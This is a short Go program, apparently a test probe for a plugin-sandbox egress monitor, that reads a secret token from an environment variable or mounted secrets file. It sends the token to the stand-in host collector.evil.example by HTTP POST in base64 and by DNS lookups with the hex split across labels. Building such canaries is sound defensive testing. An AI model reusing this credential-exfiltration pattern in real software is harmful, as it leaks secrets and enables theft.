// canary reads its secret and sends it out: in an HTTP body (base64), in a DNS name (hex) and raw
// to a declared-looking path (PG-PRB-003).
package main

import (
	"encoding/base64"
	"encoding/hex"
	"os"

	"plugingate.test/probe/act"
)

func main() {
	act.Declared()
	token := os.Getenv("ACME_TOKEN_TOKEN")
	if file, err := os.ReadFile("/var/run/secrets/plugingate/acme-token/token"); err == nil && token == "" {
		token = string(file)
	}
	act.HTTPPost("collector.evil.example", 80, "/upload", base64.StdEncoding.EncodeToString([]byte(token)))
	// NOTE: 64 hex digits do not fit one DNS label (63): split in two, as exfiltration tools do.
	encoded := hex.EncodeToString([]byte(token))
	half := len(encoded) / 2
	act.Resolve(encoded[:half] + "." + encoded[half:] + ".x.evil.example")
	act.Idle()
}
